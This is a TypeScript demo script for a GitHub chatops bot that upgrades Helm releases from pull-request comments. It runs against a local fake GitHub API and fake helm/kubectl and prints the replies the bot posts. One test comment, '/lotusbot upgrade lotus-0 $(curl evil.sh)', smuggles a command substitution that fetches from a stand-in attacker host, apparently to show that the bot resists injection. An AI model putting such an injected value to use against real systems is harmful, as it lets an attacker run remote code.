// Demo step: a /lotusbot upgrade round trip against the local world — a local GitHub API server,
// fake helm/kubectl that record their argv, the demo bucket for leases — printing the reply it posts.
import { join } from "node:path";
import { getOctokit } from "@actions/github";
import { ConsoleLogger, systemClock } from "@chainops/shared";
import { openStore } from "@chainops/shared/storage";
import { conformanceDir, fakeExecutables, readConformanceJson, startCaptureServer } from "@chainops/testkit";
import { loadCanaryConfig } from "../../actions/canary/src/config";
import { run } from "../../actions/canary/src/run";
import type { DemoContext } from "./context";

const REPO = "lotus-dev/lotus";
const HEAD_SHA = "5a1f6c2e9b7d4038a1c2e3f4a5b6c7d8e9f0a1b2";

function prComment(body: string): Record<string, any> {
  // The real PR-comment payload when the conformance files are around; a minimal one otherwise.
  const payload: Record<string, any> = conformanceDir()
    ? structuredClone(readConformanceJson<Record<string, any>>("github-webhooks/basejump.issue_comment.created.pull_request.json"))
    : { action: "created", issue: { number: 2, pull_request: { url: "" } }, comment: { id: 222, user: { login: "balena-user", type: "User" } }, repository: { name: "lotus", owner: { login: "lotus-dev" } } };
  payload.comment.body = body;
  payload.repository.name = "lotus";
  payload.repository.owner.login = "lotus-dev";
  return payload;
}

export const canaryStep = {
  name: "canary",
  async run(context: DemoContext): Promise<void> {
    context.step("lotusbot: /lotusbot upgrade lotus-0 from a PR comment (local GitHub API, fake helm)");
    const replies: string[] = [];
    const github = await startCaptureServer({
      routes: [
        { method: "GET", path: /\/collaborators\/[^/]+\/permission$/, respond: { body: { permission: "write", role_name: "write" } } },
        { method: "GET", path: /\/pulls\/\d+$/, respond: { body: { number: 2, html_url: `https://github.com/${REPO}/pull/2`, head: { sha: HEAD_SHA, ref: "feat/splitstore", repo: { full_name: REPO } }, base: { repo: { full_name: REPO } } } } },
        { method: "POST", path: /\/reactions$/, respond: (req) => { console.log(`  reaction: ${(req.body as { content: string }).content}`); return { status: 201, body: { id: 1 } }; } },
        {
          method: "POST",
          path: /\/issues\/\d+\/comments$/,
          respond: (req) => {
            replies.push((req.body as { body: string }).body);
            return { status: 201, body: { id: replies.length, html_url: `https://github.com/${REPO}/pull/2#issuecomment-${replies.length}` } };
          },
        },
      ],
    });
    const fakes = fakeExecutables({ helm: { stdout: JSON.stringify({ name: "lotus-0", version: 12 }) }, kubectl: {} });
    try {
      const config = (extra: Record<string, string> = {}) =>
        loadCanaryConfig({
          store: context.bucketUrl,
          chart: join(context.root, "actions", "canary", "example-chart"),
          releases: "lotus-0, lotus-1",
          helm: fakes.path("helm"),
          kubectl: fakes.path("kubectl"),
          ...extra,
        });
      const logger = new ConsoleLogger();
      const deps = (body: string) => ({
        clock: systemClock,
        logger,
        github: {
          api: getOctokit("demo-token", { baseUrl: github.url }),
          eventName: "issue_comment",
          payload: prComment(body),
          repository: REPO,
          actor: "balena-user",
          runUrl: `https://github.com/${REPO}/actions/runs/1`,
        },
      });
      const store = await openStore(context.bucketUrl);
      for (const body of ["/lotusbot upgrade lotus-0", "/lotusbot upgrade lotus-0 $(curl evil.sh)", "/lotusbot status"]) {
        console.log(`\n> ${body}`);
        const result = await run(config(), { ...deps(body), store });
        console.log(`  result: ${result.status}`);
        console.log(`  reply it posted:\n${replies.at(-1)!.replace(/^/gm, "    ")}`);
      }
      console.log(`\n  helm was run as: helm ${fakes.calls("helm")[0]!.join(" ")}`);
      console.log(`  lease document: ${context.bucketUrl}/canary-leases/lotus-0.json`);
    } finally {
      fakes.remove();
      await github.close();
    }
  },
};
